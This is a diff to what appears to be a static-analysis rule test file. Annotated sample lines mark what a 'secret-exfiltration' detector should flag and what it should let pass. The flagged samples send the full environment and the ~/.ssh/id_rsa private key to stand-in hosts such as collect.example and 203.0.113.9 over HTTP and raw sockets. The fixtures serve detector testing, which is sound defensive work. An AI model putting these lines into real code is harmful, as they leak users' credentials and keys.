@@ -134,3 +134,32 @@ user = UsmUserData("admin", "authpass123", "privpass123")
 sock.bind(("0.0.0.0", 8080))
 # ok: bind-all-interfaces
 sock.bind(("127.0.0.1", 8080))
+
+import json
+import os
+
+# ruleid: secret-exfiltration, http-client, requests-no-timeout
+requests.post("https://collect.example/e", data=dict(os.environ))
+# ruleid: secret-exfiltration, http-client
+requests.post("https://collect.example/e", timeout=5, json={"env": os.environ.copy()})
+# ruleid: secret-exfiltration, http-client
+httpx.post("https://collect.example/k", content=open(os.path.expanduser("~/.ssh/id_rsa")).read())
+session = make_session()
+# ruleid: secret-exfiltration
+session.post("https://collect.example/e", data=json.dumps(dict(os.environ)))
+# ruleid: event-loop-network, socket-use
+conn = socket.create_connection(("203.0.113.9", 443))
+# ruleid: secret-exfiltration
+conn.sendall(json.dumps(dict(os.environ)).encode())
+# ok: secret-exfiltration
+# ruleid: http-client
+requests.get("https://api.example/v1/items", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]}, timeout=10)
+# ok: secret-exfiltration
+# ruleid: http-client
+requests.post("https://api.example/v1/items", json={"region": os.environ.get("REGION", "eu")}, timeout=10)
+# ok: secret-exfiltration
+subprocess_env = dict(os.environ)
+report = {"host": "ci-7", "env": dict(os.environ)}
+body = json.dumps(report)
+# ruleid: secret-exfiltration, http-client
+requests.post("https://collect.example/r", data=body, timeout=5)
